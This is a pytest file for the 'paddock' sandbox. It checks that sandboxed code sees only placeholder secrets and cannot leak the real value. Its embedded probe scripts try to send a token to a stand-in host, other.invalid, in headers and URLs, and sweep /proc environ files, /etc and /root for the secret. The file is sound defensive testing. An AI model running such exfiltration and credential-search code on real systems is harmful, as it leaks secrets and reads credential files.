"""Whoever is inside has placeholders of secrets, and nothing that he does with them leads to a value."""

from __future__ import annotations

from collections.abc import Generator
from pathlib import Path

import pytest
from attacking import Attacker

from paddock import Sandbox
from paddock._compose import local
from paddock.model import CreateSandbox, RemoveSecret, SandboxSpec, SecretValue, SetSecret
from paddock.policy.egress import load

VALUE = b"correct-horse-battery-staple"


@pytest.fixture
def holder(shared_state: Path) -> Generator[Attacker]:
    """Somebody with a secret for one host, who may talk to another, too."""
    policy = {
        "egress": {
            "allow": [
                {"host": "api.invalid", "ports": [80, 443], "secret": "TOKEN"},
                {"host": "other.invalid", "paths": ["/**"]},
            ]
        },
        "secrets": {"TOKEN": {"from": {"stored": "ATTACKED"}, "bind": {"host": "api.invalid", "header": "X-Key"}}},
    }
    transport = local()
    transport.perform(SetSecret(name="ATTACKED", value=SecretValue(VALUE)))
    made = Sandbox(transport.perform(CreateSandbox(spec=SandboxSpec(policy=load(policy).document))), transport)
    try:
        yield Attacker(made, None)
    finally:
        made.kill()
        transport.perform(RemoveSecret(name="ATTACKED"))


_ASK = """
import os
def ask(host, path="/", header=None):
    said = f"GET {path} HTTP/1.1\\r\\nhost: {host}\\r\\n"
    said += (f"{header}\\r\\n" if header else "") + "connection: close\\r\\n\\r\\n"
    with socket.create_connection((host, 80), timeout=60) as s:
        s.sendall(said.encode())
        return b"".join(iter(lambda: s.recv(65536), b"")).decode("latin-1")
token = os.environ["TOKEN"]
"""


def test_secret_only_there(holder: Attacker) -> None:
    for host in ("api.invalid", "other.invalid"):  # in clear, and to whom it is not bound
        said = holder.probe(_ASK + f"answer(ask({host!r}))")
        assert not said.startswith("HTTP/1.1 403"), said  # allowed: there is only nobody of that name
        for how in ("header=f'X-Key: {token}'", "path=f'/?key={token}'", "path=f'/{token}'"):
            said = holder.probe(_ASK + f"answer(ask({host!r}, {how}))")
            assert said.startswith("HTTP/1.1 403"), said
            assert "placeholder" in said
            assert VALUE.decode() not in said
    assert holder.probe(_SEARCH, VALUE.hex(), timeout_seconds=110) == []


_SEARCH = """
import os, glob
value = bytes.fromhex(sys.argv[1])
found = []
for path in glob.glob("/proc/[0-9]*/environ") + glob.glob("/proc/[0-9]*/cmdline"):
    try:
        if value in open(path, "rb").read(): found.append(path)
    except OSError: pass
for top in ("/tmp", "/workspace", "/etc", "/home", "/root", "/.paddock", "/run", "/var"):
    for folder, _, names in os.walk(top):
        for name in names:
            path = os.path.join(folder, name)
            try:
                if os.path.isfile(path) and value in open(path, "rb").read(1 << 20): found.append(path)
            except OSError: pass
answer(found)
"""
